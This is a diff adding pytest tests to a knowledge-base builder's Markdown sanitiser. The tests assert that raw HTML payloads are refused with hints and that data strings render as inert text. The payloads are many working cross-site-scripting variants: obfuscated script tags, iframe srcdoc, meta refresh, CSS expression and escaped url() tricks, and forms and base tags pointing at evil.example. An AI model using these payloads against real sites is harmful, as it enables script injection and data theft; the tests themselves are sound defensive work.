@@ -11,11 +11,21 @@ import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 from markdown_it import MarkdownIt
+from selectolax.lexbor import LexborHTMLParser
 
-from kb_builder.core.markdown import data_markdown_problem, page_problems, safe_markdown
+from kb_builder.core.markdown import (
+    ALLOWED_ELEMENTS,
+    css_problem,
+    css_urls,
+    data_markdown_problem,
+    markdown_html,
+    page_problems,
+    safe_markdown,
+)
 from kb_builder.core.templates import environment
 from kb_builder.core.text import (
     MarkdownText,
+    browser_url,
     code_span,
     html,
     is_allowed_link,
@@ -251,7 +261,7 @@ def test_data_markdown_keeps_allowed_links_and_placeholders():
         ("<javascript:alert(1)>\n", 0, "'javascript:'"),
         ('<a href="&#106;avascript:x">x</a>\n', 0, "'javascript:'"),
         ('<img src="data:image/png;base64,AAAA">\n', 0, "'data:'"),
-        ('<form action="javascript:x"></form>\n', 0, "'javascript:'"),
+        ('<a href="x" formaction="javascript:x">y</a>\n', 0, "'javascript:'"),
         ("[a](b.md){ href='javascript:x' }\n", 0, "'javascript:'"),
         ('Para\n{: onmouseover="x" }\n', 1, "'onmouseover'"),
         ("!!! note\n    [a](b.md){ .c ONCLICK=x }\n", 1, "'onclick'"),
@@ -284,6 +294,167 @@ def test_page_problems(body, line, words):
 )
 def test_pages_may_use_allowed_links_and_examples_in_code(body):
     assert page_problems(body) == []
+
+
+# Raw HTML that runs script, loads a document or hijacks navigation, whatever the disguise:
+# each is refused at its line, naming the element (or attribute) and what pages may use.
+HOSTILE_HTML = [
+    ("<script>alert(1)</script>\n", 0, "<script>"),
+    ("Text\n\n<SCRIPT SRC=x.js></SCRIPT>\n", 2, "<script>"),
+    ("<script\n>alert(1)</script>\n", 0, "<script>"),
+    ("<script/x>alert(1)</script>\n", 0, "<script>"),
+    ('<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>\n', 0, "<iframe>"),
+    ('<meta http-equiv="refresh" content="0;url=javascript:alert(1)">\n', 0, "<meta>"),
+    ('<meta http-equiv="set-cookie" content="a=b">\n', 0, "<meta>"),
+    ('<meta http-equiv=Content-Security-Policy content="default-src *">\n', 0, "<meta>"),
+    ('<base href="https://evil.example/">\n', 0, "<base>"),
+    ("<noscript><p>x</p></noscript>\n", 0, "<noscript>"),
+    ('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>\n', 0, "onerror"),
+    ("<svg><script>alert(1)</script></svg>\n", 0, "<svg>"),
+    ("<svg/onload=alert(1)>\n", 0, "<svg>"),
+    ('<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>\n', 0, "<math>"),
+    ('<object data="x.swf"></object>\n', 0, "<object>"),
+    ('<embed src="x.swf">\n', 0, "<embed>"),
+    ('<form action="https://evil.example/"><input name=p></form>\n', 0, "<form>"),
+    ('<button form="kb-search" formaction="https://evil.example/">Go</button>\n', 0, "<button>"),
+    ('<link rel="import" href="x.html">\n', 0, "<link>"),
+    ('<link rel="stylesheet" href="x.css">\n', 0, "<link>"),
+    ('<link rel="preload" href="x.js" as="script">\n', 0, "<link>"),
+    ("<style>body { display: none }</style>\n", 0, "<style>"),
+    ("<template><script>alert(1)</script></template>\n", 0, "<template>"),
+    ('<frameset onload="alert(1)"><frame src="x"></frameset>\n', 0, "<frameset>"),
+    ('<body onload="alert(1)">\n', 0, "<body>"),
+    ('<portal src="x.html"></portal>\n', 0, "<portal>"),
+    ("<xmp><img src=x onerror=alert(1)></xmp>\n", 0, "<xmp>"),
+    ("!!! note\n    <script>alert(1)</script>\n", 1, "<script>"),
+    ("<div>\n\n<iframe src=x.html></iframe>\n\n</div>\n", 2, "<iframe>"),
+    # A quoted '>' does not end a tag for a browser, nor does a table's cell lose attributes.
+    ('<div title=">" onclick="alert(1)">x</div>\n', 0, "'onclick'"),
+    ('<img title=">" src=x onerror=alert(1)//>\n', 0, "'onerror'"),
+    ("<td onclick=alert(1)>x</td>\n", 0, "'onclick'"),
+    # Read as Python-Markdown's inline pattern reads a tag (it ends at the first '<' or '>'),
+    # the quoted <script> is a tag of its own: refused, as the most lenient reader would see it.
+    ('Text <span title="<script>alert(1)</script>">x</span>\n', 0, "<script>"),
+    # Styles that run script, however they are written, in raw HTML or an attribute list.
+    ('<div style="width: expression(alert(1))">x</div>\n', 0, "'expression'"),
+    ('<div style="width: \\65 xpression(alert(1))">x</div>\n', 0, "'expression'"),
+    ('<div style="width: ex/**/pression(alert(1))">x</div>\n', 0, "'expression'"),
+    ('<div style="-moz-binding: url(x.xml#xss)">x</div>\n', 0, "'-moz-binding'"),
+    ('<p style="behavior: url(x.htc)">x</p>\n', 0, "'behavior'"),
+    ('<p style="background: url(&#106;avascript:alert(1))">x</p>\n', 0, "'javascript'"),
+    ("<p style=\"background: url('java\tscript:alert(1)')\">x</p>\n", 0, "'javascript'"),
+    ('<p style="background-image: url(data:image/svg+xml,x)">x</p>\n', 0, "'data:'"),
+    ('[s](r.md){ style="background: url(javascript:alert(1))" }\n', 0, "'javascript'"),
+    ('Para\n{: style="x: expression(alert(1))" }\n', 1, "'expression'"),
+    # Attributes the theme's scripts read would steer them from a writer's element.
+    ('<div data-kb-api="https://evil.example/api">x</div>\n', 0, "'data-kb-api'"),
+    ("<div data-kb-search-results>x</div>\n", 0, "'data-kb-search-results'"),
+    ('[a](b.md){ data-md-component="search" }\n', 0, "'data-md-component'"),
+]
+
+
+@pytest.mark.parametrize(("body", "line", "words"), HOSTILE_HTML)
+def test_raw_html_that_runs_script_or_hijacks_links_is_refused(body, line, words):
+    problems = page_problems(body)
+    assert problems and {p[0] for p in problems} == {line}, problems
+    assert any(words in message for _, message in problems), problems
+    for _, message in problems:
+        # Each says what would be valid.
+        assert any(
+            hint in message for hint in ("pages may use", "a style may set", "remove it", "link to")
+        ), message
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        '<div class="grid cards" markdown>\n\n- One\n- Two\n\n</div>\n',
+        "<details><summary>More</summary>\n\nHidden text.\n\n</details>\n",
+        '<figure><img src="img/a.png" alt="A" width="200"><figcaption>A</figcaption></figure>\n',
+        '<video controls src="clip.webm" poster="clip.png"><track src="c.vtt"></video>\n',
+        "<table><tr><th>A</th><td colspan=2>B</td></tr></table>\n",
+        '<abbr title="Application Programming Interface">API</abbr> <kbd>Ctrl</kbd>+<kbd>C</kbd>\n',
+        '<span style="color: #c00; background: url(img/bg.png) no-repeat">red</span>\n',
+        "[s](r.md){ style=\"color: red; background-image: url('img/a.png')\" }\n",
+        # Not element names: inert in every browser (a real tldr page writes <dav.example.com>).
+        "Connect to <dav.example.com> or <pulumi.com>, or a <my-widget></my-widget>.\n",
+        '<div data-step="2" data-kind="tip">data- attributes of the writer\'s own</div>\n',
+        '```html\n<script>alert(1)</script>\n<iframe srcdoc="x"></iframe>\n```\n',
+        "Use `<meta http-equiv=refresh>` or `<base href>` in your own site.\n",
+    ],
+)
+def test_layout_html_is_allowed(body):
+    assert page_problems(body) == []
+
+
+def test_the_allowed_elements_are_only_layout_text_and_media():
+    refused = {"script", "iframe", "object", "embed", "meta", "base", "link", "style", "form"}
+    assert not refused & ALLOWED_ELEMENTS
+    assert {"svg", "math", "noscript", "template", "input", "button"}.isdisjoint(ALLOWED_ELEMENTS)
+
+
+@pytest.mark.parametrize(
+    ("css", "urls"),
+    [
+        ("background: url(a.png)", ["a.png"]),
+        ("background: url( 'a.png' )", ["a.png"]),
+        ('background: URL("//evil.example/b.png")', ["//evil.example/b.png"]),
+        ("@import 'https://evil.example/x.css';", ["https://evil.example/x.css"]),
+        ('@import url("x.css") screen;', ["x.css"]),
+        (
+            "background-image: image-set('a.png' 1x, \"https://evil.example/b.png\" 2x)",
+            ["a.png", "https://evil.example/b.png"],
+        ),
+        ("background: -webkit-image-set(url(c.png) 1x)", ["c.png"]),
+        ("background: u\\72l(https://evil.example/e.png)", ["https://evil.example/e.png"]),
+        ("background: url(/*x*/https://evil.example/f.png)", ["https://evil.example/f.png"]),
+        ("color: red", []),
+    ],
+)
+def test_css_urls_are_read_in_every_form(css, urls):
+    assert css_urls(css) == urls
+
+
+def test_css_problem_allows_ordinary_styles():
+    assert css_problem("color: red; margin: 0 auto; background: url(img/a.png)") is None
+    assert "expression" in (css_problem("width:EXPRESSION(alert(1))") or "")
+
+
+@pytest.mark.parametrize(
+    ("url", "read"),
+    [
+        ("\\\\evil.example/x.png", "//evil.example/x.png"),
+        ("https:/\\evil.example/y.png", "https://evil.example/y.png"),
+        ("ht\ttps://evil.example/", "https://evil.example/"),
+        ("https://evil\n.example/", "https://evil.example/"),
+        ("  \x01//evil.example/", "//evil.example/"),
+        ("/\\evil.example/", "//evil.example/"),
+        ("&#92;&#92;evil.example/", "//evil.example/"),
+        ("HtTpS://Evil.Example/", "HtTpS://Evil.Example/"),
+        ("img/a.png", "img/a.png"),
+    ],
+)
+def test_browser_url_reads_an_address_as_the_whatwg_parser_does(url, read):
+    assert browser_url(url) == read
+
+
+# Data strings (a change body, a lesson's text, a title) can carry the same raw HTML: they are
+# text, so none of these elements or attributes is ever produced from them.
+HOSTILE_DATA = [body.strip() for body, _, _ in HOSTILE_HTML]
+
+
+@pytest.mark.parametrize("text", HOSTILE_DATA)
+def test_data_strings_with_hostile_html_stay_text(text):
+    for rendered in (
+        markdown.markdown(safe_markdown(text), extensions=EXTENSIONS),
+        markdown.markdown(markdown_literal(text), extensions=EXTENSIONS),
+        markdown_html(text),
+        str(html(text)),
+    ):
+        assert injected(rendered) == [], (text, rendered)
+        # Nor a style: Markdown never writes one from text.
+        nodes = LexborHTMLParser(rendered).root.traverse(include_text=False)
+        assert not any("style" in node.attributes for node in nodes), rendered
 
 
 # --- templates -------------------------------------------------------------------------------
